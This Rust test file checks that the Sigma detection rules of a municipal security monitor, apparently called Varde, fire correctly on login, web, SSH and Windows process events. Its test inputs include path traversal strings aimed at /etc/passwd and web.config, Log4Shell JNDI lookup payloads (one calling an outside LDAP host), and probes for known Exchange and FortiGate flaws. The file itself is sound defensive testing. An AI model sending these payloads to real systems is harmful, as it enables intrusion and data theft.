//! Varde's own rule pack (`rules/sigma/`): every rule loads, and every rule matches its positive
//! events and none of its negative ones (and no other rule of the pack fires on them).

use varde_core::{BatchBuilder, CollectorId, Event, Kommunenummer, SourceKind, Value};
use varde_rules::compile::Placeholders;
use varde_rules::{RuleSet, RuleSetBuilder};

fn pack() -> RuleSet {
    let mut p = Placeholders::new();
    p.insert(
        "high_assurance_services".into(),
        vec!["byggesak".into(), "barnevern".into()],
    );
    p.insert(
        "municipal_oidc_clients".into(),
        vec!["k0301-portal".into(), "k0301-byggesak".into()],
    );
    let mut b = RuleSetBuilder::new(p).expect("mappings");
    let dir = varde_testkit::workspace_root().join("rules/sigma");
    varde_rules::load::add_paths(&mut b, &[dir]).expect("pack readable");
    let set = b.build().expect("build");
    assert!(set.errors().is_empty(), "{:#?}", set.errors());
    for r in set.rules() {
        assert!(
            r.unmapped_fields.is_empty(),
            "{}: {:?}",
            r.meta.title,
            r.unmapped_fields
        );
    }
    set
}

/// Titles of the pack's rules that match `event` of `kind`.
fn fired(set: &RuleSet, kind: SourceKind, event: Event) -> Vec<String> {
    let mut b = BatchBuilder::new(
        kind,
        Kommunenummer::parse("0301").expect("tenant"),
        CollectorId::new("k0301-test").expect("id"),
        1,
    );
    b.push(&event).expect("event fits its kind");
    let batch = b.finish().expect("batch");
    let mut titles: Vec<String> = set
        .match_batch(kind, &batch)
        .expect("match")
        .iter()
        .map(|m| set.rules()[m.rule as usize].meta.title.clone())
        .collect();
    let mut reference: Vec<String> = set
        .match_batch_reference(kind, &batch)
        .expect("reference")
        .iter()
        .map(|m| set.rules()[m.rule as usize].meta.title.clone())
        .collect();
    titles.sort();
    reference.sort();
    assert_eq!(titles, reference, "engine and reference disagree");
    titles
}

fn oidc(client: &str, service: &str, acr: &str, outcome: &str, agent: &str) -> Event {
    Event {
        typed: vec![
            ("client_id", Value::Str(client.into())),
            ("service", Value::Str(service.into())),
            ("acr", Value::Str(acr.into())),
            ("outcome", Value::Str(outcome.into())),
            ("user_agent", Value::Str(agent.into())),
            ("idp", Value::Str("idporten".into())),
        ],
        ..Event::default()
    }
}

fn web(path: &str, query: &str, agent: &str) -> Event {
    Event {
        typed: vec![
            ("method", Value::Str("GET".into())),
            ("url_path", Value::Str(path.into())),
            ("url_query", Value::Str(query.into())),
            ("user_agent", Value::Str(agent.into())),
            ("status", Value::UInt(200)),
        ],
        ..Event::default()
    }
}

const FIREFOX: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";

#[test]
fn oidc_rules() {
    let set = pack();
    let k = SourceKind::OidcLogin;
    let scripted = "ID-porten Login to a Municipal Service From a Scripted Client";
    let downgrade = "ID-porten Login Below the Assurance Level the Service Requires";
    let unknown = "ID-porten Login Through an Unknown Client of a Municipal Service";
    // Ordinary logins: nothing.
    assert!(
        fired(
            &set,
            k,
            oidc(
                "k0301-portal",
                "innsyn",
                "idporten-loa-substantial",
                "success",
                FIREFOX
            )
        )
        .is_empty()
    );
    assert!(
        fired(
            &set,
            k,
            oidc(
                "k0301-byggesak",
                "byggesak",
                "idporten-loa-high",
                "success",
                FIREFOX
            )
        )
        .is_empty()
    );
    // A failed login below the level is not a downgrade.
    assert!(
        fired(
            &set,
            k,
            oidc(
                "k0301-byggesak",
                "byggesak",
                "idporten-loa-substantial",
                "access_denied",
                FIREFOX
            )
        )
        .is_empty()
    );
    assert_eq!(
        fired(
            &set,
            k,
            oidc(
                "k0301-portal",
                "innsyn",
                "idporten-loa-substantial",
                "success",
                "python-requests/2.31.0"
            )
        ),
        vec![scripted]
    );
    assert_eq!(
        fired(
            &set,
            k,
            oidc(
                "k0301-byggesak",
                "Byggesak",
                "idporten-loa-substantial",
                "success",
                FIREFOX
            )
        ),
        vec![downgrade]
    );
    assert_eq!(
        fired(
            &set,
            k,
            oidc(
                "evil-client",
                "innsyn",
                "idporten-loa-high",
                "success",
                FIREFOX
            )
        ),
        vec![unknown]
    );
}

#[test]
fn web_rules() {
    let set = pack();
    let k = SourceKind::WebAccess;
    let traversal = "Path Traversal Attempt Against a Municipal Web Service";
    let jndi = "JNDI Lookup String in a Web Request (Log4Shell Style)";
    let known = "Request to a Path of a Known Exploited Vulnerability";
    assert!(fired(&set, k, web("/innsyn/sak/2024-123", "side=2", FIREFOX)).is_empty());
    assert!(fired(&set, k, web("/docs/release..notes", "", FIREFOX)).is_empty());
    assert_eq!(
        fired(&set, k, web("/static/../../etc/passwd", "", FIREFOX)),
        vec![traversal]
    );
    assert_eq!(
        fired(
            &set,
            k,
            web("/download", "file=..%2F..%2Fweb.config", FIREFOX)
        ),
        vec![traversal]
    );
    assert_eq!(
        fired(&set, k, web("/", "", "${jndi:ldap://203.0.113.9/a}")),
        vec![jndi]
    );
    assert_eq!(
        fired(&set, k, web("/", "x=${${lower:j}ndi:dns://x}", FIREFOX)),
        vec![jndi]
    );
    assert_eq!(
        fired(
            &set,
            k,
            web("/autodiscover/autodiscover.json", "@evil.com/owa/", FIREFOX)
        ),
        vec![known]
    );
    assert_eq!(
        fired(
            &set,
            k,
            web(
                "/remote/fgt_lang",
                "lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                FIREFOX
            )
        ),
        vec![traversal, known]
    );
}

#[test]
fn linux_and_windows_rules() {
    let set = pack();
    // As the collector's edge makes them: every sshd line is an `auth` event with its program.
    let ssh = |app: &str, msg: &str| Event {
        message: Some(msg.into()),
        typed: vec![("program", Value::Str(app.into()))],
        ..Event::default()
    };
    let root = "Successful SSH Password Login as root on a Municipal Server";
    assert_eq!(
        fired(
            &set,
            SourceKind::Auth,
            ssh(
                "sshd",
                "Accepted password for root from 203.0.113.7 port 52144 ssh2"
            )
        ),
        vec![root]
    );
    assert!(
        fired(
            &set,
            SourceKind::Auth,
            ssh(
                "sshd",
                "Accepted publickey for root from 10.0.0.5 port 52144 ssh2"
            )
        )
        .is_empty()
    );
    assert!(
        fired(
            &set,
            SourceKind::Auth,
            ssh(
                "sshd",
                "Accepted password for rootkit-admin from 10.0.0.5 port 1 ssh2"
            )
        )
        .is_empty()
    );
    // The same text from another program is not sshd's.
    assert!(
        fired(
            &set,
            SourceKind::Auth,
            ssh("logger", "Accepted password for root from x port 1")
        )
        .is_empty()
    );

    let proc = |image: &str, original: &str| Event {
        typed: vec![
            ("win_event_id", Value::UInt(1)),
            (
                "channel",
                Value::Str("Microsoft-Windows-Sysmon/Operational".into()),
            ),
        ],
        attrs: vec![
            ("Image".into(), image.into()),
            ("OriginalFileName".into(), original.into()),
        ],
        ..Event::default()
    };
    let rat = "Remote Access Tool Started on a Municipal Windows Host";
    let k = SourceKind::WindowsEvent;
    assert_eq!(
        fired(
            &set,
            k,
            proc(r"C:\Users\kari\Downloads\AnyDesk.exe", "AnyDesk.exe")
        ),
        vec![rat]
    );
    assert_eq!(
        fired(
            &set,
            k,
            proc(r"C:\Users\kari\Downloads\support.exe", "rustdesk.exe")
        ),
        vec![rat]
    );
    assert!(
        fired(
            &set,
            k,
            proc(r"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE")
        )
        .is_empty()
    );
}

#[test]
fn the_built_in_pack_is_the_folder() {
    let dir = varde_testkit::workspace_root().join("rules/sigma");
    let mut on_disk: Vec<(String, String)> = varde_rules::load::rule_files(&dir)
        .expect("pack readable")
        .into_iter()
        .map(|p| {
            let name = p
                .file_name()
                .and_then(|n| n.to_str())
                .unwrap_or_default()
                .to_owned();
            (name, std::fs::read_to_string(&p).expect("rule readable"))
        })
        .collect();
    on_disk.sort();
    let mut built_in: Vec<(String, String)> = varde_rules::pack::PACK
        .iter()
        .map(|(n, t)| ((*n).to_owned(), (*t).to_owned()))
        .collect();
    built_in.sort();
    assert_eq!(
        built_in.iter().map(|(n, _)| n).collect::<Vec<_>>(),
        on_disk.iter().map(|(n, _)| n).collect::<Vec<_>>(),
        "rules/src/pack.rs must list every file of rules/sigma"
    );
    assert_eq!(built_in, on_disk);
}
